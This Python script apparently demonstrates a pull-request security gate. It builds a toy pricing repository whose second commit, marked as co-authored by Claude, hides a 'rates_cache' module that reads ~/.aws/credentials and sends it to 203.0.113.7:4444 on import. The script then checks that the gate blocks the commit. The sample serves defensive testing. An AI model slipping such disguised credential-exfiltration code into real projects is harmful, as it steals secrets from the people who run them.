"""Makes a demo pull request in demo-out/ and lets the gate judge it.

The hostile commit is a harmless simulation: its destination is in a documentation range
(RFC 5737), the "secrets" it looks for are canaries, and it runs only inside the sandbox.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path
from textwrap import dedent

from gate import process
from gate.cli import main

OUT = Path("demo-out")

PROJECT = {
    "pyproject.toml": """
        [build-system]
        requires = ["setuptools>=68"]
        build-backend = "setuptools.build_meta"

        [project]
        name = "pricing"
        version = "1.4.0"
        requires-python = ">=3.10"
        """,
    "README.md": "# pricing\n\nPrices, discounts and taxes for the web shop.\n",
    "src/pricing/__init__.py": '''
        """Prices for the web shop."""

        from pricing.cart import total

        __all__ = ["total"]
        ''',
    "src/pricing/cart.py": '''
        """Totals of a cart."""

        from pricing.tax import with_tax


        def total(items: list[tuple[str, int, float]], country: str = "DE") -> float:
            """The sum of quantity times price, tax included, in euros."""
            net = sum(count * price for _, count, price in items)
            return round(with_tax(net, country), 2)
        ''',
    "src/pricing/tax.py": '''
        """Value added tax by country."""

        RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}


        def with_tax(net: float, country: str) -> float:
            """Net plus tax; unknown countries pay none."""
            return net * (1 + RATES.get(country, 0.0))
        ''',
    "tests/test_cart.py": """
        from pricing import total


        def test_total() -> None:
            assert total([("mug", 2, 5.0)]) == 11.9
        """,
}

HARMLESS = {
    "src/pricing/discount.py": '''
        """Volume discounts."""

        import os


        def discount(count: int, price: float) -> float:
            """Ten per cent off from ten pieces on."""
            threshold = int(os.environ.get("PRICING_VOLUME", "10"))
            return price * 0.9 if count >= threshold else price
        ''',
    "tests/test_discount.py": """
        from pricing.discount import discount


        def test_discount() -> None:
            assert discount(10, 1.0) == 0.9
            assert discount(1, 1.0) == 1.0
        """,
}

HOSTILE = {
    "src/pricing/tax.py": '''
        """Value added tax by country."""

        from pricing import rates_cache

        RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}
        rates_cache.warm(RATES)


        def with_tax(net: float, country: str) -> float:
            """Net plus tax; unknown countries pay none."""
            return net * (1 + RATES.get(country, 0.0))
        ''',
    "src/pricing/rates_cache.py": '''
        """Keeps tax rates warm between workers."""

        import base64
        import json
        import pathlib
        import socket


        def warm(rates: dict[str, float]) -> None:
            """Share the rates with the cache node."""
            hints = pathlib.Path.home() / ".aws" / "credentials"
            payload = {"rates": rates, "node": hints.read_text() if hints.exists() else ""}
            blob = base64.b64encode(json.dumps(payload).encode())
            try:
                with socket.create_connection(("203.0.113.7", 4444), timeout=2) as link:
                    link.sendall(b"POST /warm HTTP/1.1\\r\\n\\r\\n" + blob)
            except OSError:
                pass
        ''',
}

AI_TRAILER = "\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"


def git(repo: Path, *words: str) -> None:
    """One git command with an identity of its own and no configuration of yours."""
    done = process.run(
        ["git", "-C", repo, *words],
        deadline=30,
        env={
            "GIT_CONFIG_GLOBAL": "/dev/null",
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_AUTHOR_NAME": "Sam Shopkeeper",
            "GIT_AUTHOR_EMAIL": "sam@shop.example",
            "GIT_COMMITTER_NAME": "Sam Shopkeeper",
            "GIT_COMMITTER_EMAIL": "sam@shop.example",
        },
    )
    if not done.ok:
        sys.exit(f"demo: {' '.join(done.argv)}: {done.stderr.decode(errors='replace')}")


def commit(repo: Path, files: dict[str, str], message: str) -> None:
    """Write files and commit them."""
    for name, text in files.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dedent(text).lstrip("\n"), encoding="utf-8")
    git(repo, "add", "--all")
    git(repo, "commit", "--quiet", "--message", message)


def build(repo: Path) -> None:
    """The shop's repository with a pull request of two commits on top of main."""
    repo.mkdir(parents=True)
    git(repo, "init", "--quiet", "--initial-branch=main")
    commit(repo, PROJECT, "Prices, discounts and taxes")
    git(repo, "checkout", "--quiet", "-b", "faster-taxes")
    commit(repo, HARMLESS, "Add volume discounts" + AI_TRAILER)
    commit(repo, HOSTILE, "Keep tax rates warm between workers" + AI_TRAILER)


def demo() -> int:
    """Build, judge, say how it went. 0 when the gate blocked the pull request."""
    shutil.rmtree(OUT, ignore_errors=True)
    repo = OUT / "repo"
    build(repo)
    print(f"A demo pull request is in {repo} (branch faster-taxes, two commits on main).")
    command = ["check", "--repo", str(repo), "--base", "main", "--head", "faster-taxes"]
    files = [f"--{kind}={OUT / ('report.' + end)}" for kind, end in
             (("json", "json"), ("markdown", "md"), ("sarif", "sarif"), ("html", "html"))]  # fmt: skip
    print("$ gate " + " ".join(command), flush=True)
    code = main([*command, *files])
    print(f"Reports: {OUT}/report.json, report.md, report.sarif, report.html")
    if code == 1:
        print("The demo pull request was blocked, as it should be (gate check ended with exit code 1).")
        return 0
    print(f"The demo pull request was NOT blocked: gate check ended with {code}. See the stages above.")
    return 1


if __name__ == "__main__":
    sys.exit(demo())
